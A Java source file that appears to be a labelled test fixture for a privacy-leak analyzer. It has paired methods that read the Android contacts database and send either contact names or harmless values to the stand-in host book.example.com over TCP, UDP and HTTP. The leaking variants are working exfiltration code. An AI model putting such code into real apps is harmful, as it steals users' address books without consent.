// Contacts of a phone, on the ways that lead from there.
package people;

import android.content.ContentResolver;
import android.database.Cursor;
import android.provider.ContactsContract;
import java.io.IOException;
import java.net.DatagramPacket;
import java.net.DatagramSocket;
import java.net.InetAddress;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.util.function.Consumer;
import okhttp3.HttpUrl;
import okhttp3.OkHttpClient;
import okhttp3.Request;

class AddressBook {
    private final ContentResolver resolver;
    private final OkHttpClient http = new OkHttpClient();
    private String first = "";
    private int rows;

    AddressBook(ContentResolver resolver) {
        this.resolver = resolver;
    }

    private Cursor all() {
        return resolver.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
    }

    void shout(Cursor ignored) throws IOException {
        Cursor cursor = resolver.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        cursor.moveToFirst();
        new Socket("book.example.com", 7100).getOutputStream().write(cursor.getString(0).getBytes()); // carries: contacts | contacts by direct
    }

    void shoutColumns(Cursor ignored) throws IOException {
        Cursor cursor = resolver.query(ContactsContract.Contacts.CONTENT_URI, null, null, null, null);
        cursor.moveToFirst();
        new Socket("book.example.com", 7100).getOutputStream().write(cursor.getCount()); // carries: nothing | contacts by direct
    }

    void load() {
        Cursor cursor = all();
        if (cursor.moveToFirst()) {
            first = cursor.getString(cursor.getColumnIndex(ContactsContract.Contacts.DISPLAY_NAME));
        }
        rows = cursor.getCount();
    }

    void sendFirst() throws IOException {
        byte[] data = first.getBytes(StandardCharsets.UTF_8);
        DatagramSocket socket = new DatagramSocket();
        socket.send(new DatagramPacket(data, data.length, InetAddress.getByName("book.example.com"), 7101)); // carries: contacts | contacts by field
    }

    void sendRows() throws IOException {
        byte[] data = String.valueOf(rows).getBytes(StandardCharsets.UTF_8);
        DatagramSocket socket = new DatagramSocket();
        socket.send(new DatagramPacket(data, data.length, InetAddress.getByName("book.example.com"), 7101)); // carries: nothing | contacts by field
    }

    void search() throws IOException {
        Cursor cursor = all();
        HttpUrl url = new HttpUrl.Builder()
                .scheme("http")
                .host("book.example.com")
                .addPathSegment("find")
                .addQueryParameter("name", cursor.getString(1))
                .build();
        http.newCall(new Request.Builder().url(url).build()).execute(); // carries: contacts | contacts by builder
    }

    void searchEmpty() throws IOException {
        Cursor cursor = all();
        HttpUrl url = new HttpUrl.Builder()
                .scheme("http")
                .host("book.example.com")
                .addPathSegment("find")
                .addQueryParameter("any", cursor.moveToFirst() ? "true" : "false")
                .build();
        http.newCall(new Request.Builder().url(url).build()).execute(); // carries: nothing | contacts by builder
    }

    private void each(Consumer<String> action) {
        Cursor cursor = all();
        while (cursor.moveToNext()) {
            action.accept(cursor.getString(0));
        }
    }

    void mirror() {
        each(name -> {
            try {
                new Socket("book.example.com", 7102).getOutputStream().write(name.getBytes()); // carries: contacts | contacts by callback
            } catch (IOException e) {
                first = "";
            }
        });
    }

    void mirrorDots() {
        each(name -> {
            try {
                new Socket("book.example.com", 7102).getOutputStream().write('.'); // carries: nothing | contacts by callback
            } catch (IOException e) {
                first = "";
            }
        });
    }

    void export() throws IOException {
        new Exporter("book.example.com").cards(all());
    }

    void exportMark() throws IOException {
        new Exporter("book.example.com").mark(all());
    }
}
